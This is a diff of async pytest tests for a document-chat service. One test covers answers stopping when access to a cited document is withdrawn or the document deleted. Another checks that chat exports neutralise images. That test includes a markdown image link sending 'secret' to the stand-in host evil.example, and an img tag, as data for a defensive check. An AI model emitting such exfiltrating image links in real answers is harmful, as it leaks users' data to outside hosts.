@@ -351,6 +351,37 @@ async def test_a_lost_right_stops_the_answer(
         assert answer["error"]["code"] == last[-1][1]["code"]
 
 
+@pytest.mark.parametrize("is_deleted", [False, True], ids=["withdrawn", "deleted"])
+async def test_an_answer_stops_with_the_right_to_its_documents(
+    service: Service, tmp_path: Path, is_deleted: bool
+) -> None:
+    bob = await service.api.user("bob")
+    bob_id = (await bob.get("/api/auth/me")).json()["id"]
+    document = await service.api.upload(service.alice, factories.handbook(tmp_path), service.namespace)
+    member = f"/api/namespaces/{service.namespace}/members/{bob_id}"
+    assert (await service.alice.put(member, json={"auth_level": 1})).status_code == 200
+    chat = (await bob.post("/api/chats", json={"namespace_id": service.namespace})).json()["id"]
+    path, question = f"/api/chats/{chat}/messages", "How many days of vacation?"
+    owns = f"/api/documents/{document}"
+    async with reading(bob, "POST", path, {"content": question}) as events:
+        service.says.say(question, "Thirty [1] ")
+        await read_until(events, "Thirty [1] ")
+        gone = owns if is_deleted else f"{owns}/namespaces/{service.namespace}"
+        assert (await service.alice.delete(gone)).status_code == 204
+        if is_deleted:
+            # Longer than between two checks.
+            await asyncio.sleep(2)
+            service.says.say(question, "days.", None)
+        last = await read_until(events, "llm_message" if is_deleted else "error")
+    _, answer = (await bob.get(path)).json()["items"]
+    if is_deleted:
+        assert (answer["content"], answer["state"]) == ("Thirty [1] days.", "complete")
+    else:
+        assert last[-1][1]["code"] == "not_found"
+        assert (answer["content"], answer["state"]) == ("Thirty [1] ", "stopped")
+    assert [citation["title"] for citation in answer["citations"]] == ["handbook"]
+
+
 async def test_a_reader_whose_login_ends_leaves_a_turn_that_goes_on(service: Service) -> None:
     asked = service.ask("Why?")
     service.says.say("Why?", "Because ")
@@ -608,3 +639,9 @@ async def test_a_chat_is_exported(service: Service, tmp_path: Path) -> None:
         "messages": await service.messages(),
     }
     assert (await service.alice.get(export, params={"format": "html"})).status_code == 422
+
+
+async def test_an_exported_chat_loads_no_image(service: Service) -> None:
+    await service.answered("Why?", "Because ![a](https://evil.example/?q=secret) <img src=x>.")
+    exported = await service.alice.get(f"/api/chats/{service.chat}/export")
+    assert "Because ! [a](https://evil.example/?q=secret) < img src=x>." in exported.text
